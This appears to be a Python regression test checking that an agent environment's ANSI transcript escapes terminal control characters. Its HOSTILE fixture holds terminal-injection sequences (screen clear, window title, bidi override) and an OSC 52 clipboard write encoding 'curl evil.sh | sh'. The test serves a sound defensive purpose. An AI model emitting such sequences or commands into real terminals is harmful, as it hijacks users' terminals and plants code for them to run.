"""``render_mode="ansi"`` shows the policy's and the tools' text, never their escape sequences (issue 32,
item 3). Before, the transcript passed the policy's raw bytes to the terminal: a screen clear, a window
title, an OSC 52 clipboard write and a bidirectional override acted on the terminal that printed it."""

from __future__ import annotations

import re

from tests.support.env_tools import exact_reward, hermes, make_task, small_tools
from vtb_env.env import VisualToolBenchEnv

ESC, BEL, CSI, OSC = "\x1b", "\x07", "\x9b", "\x9d"
HOSTILE = (
    f"{ESC}[2J{ESC}[H"  # clear the screen, cursor home
    f"{ESC}]0;pwned{BEL}"  # window title
    f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={BEL}"  # OSC 52: write the clipboard
    f"{CSI}31m{OSC}8;;http://x{ESC}\\"  # C1 forms of CSI and OSC
    "\rline overwritten\u202eevil\u2066\x00\x7f\u2028"
)
# What a terminal would act on: C0 but tab and newline, DEL, C1, line separators, bidi controls.
ACTIVE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def test_the_ansi_transcript_escapes_every_control_character_but_newline_and_tab():
    env = VisualToolBenchEnv(tasks=[make_task("a")], tools=small_tools(), reward=exact_reward(), render_mode="ansi")
    env.reset(seed=0)
    env.step(f"thinking\tout loud {HOSTILE}" + hermes("calculator", expression=f"1+1 {HOSTILE}"))  # the tool echoes it
    env.step(f"The answer is 10.\n{HOSTILE}")
    transcript = env.render()
    assert not ACTIVE.search(transcript)
    assert transcript.count(r"\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07") == 2  # the action and the answer
    assert transcript.count(r"\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007") == 2  # JSON-escaped: the call, its result
    assert r"\x1b[2J" in transcript and r"\x9b31m" in transcript and r"\x0dline overwritten\u202eevil" in transcript
    assert "thinking\tout loud" in transcript and "== assistant\nThe answer is 10.\n" in transcript
    # the observation itself is untouched: the policy's text is data, escaped only on the way to a terminal
    assert HOSTILE.strip() in env._observation()["messages"][-1]["content"]
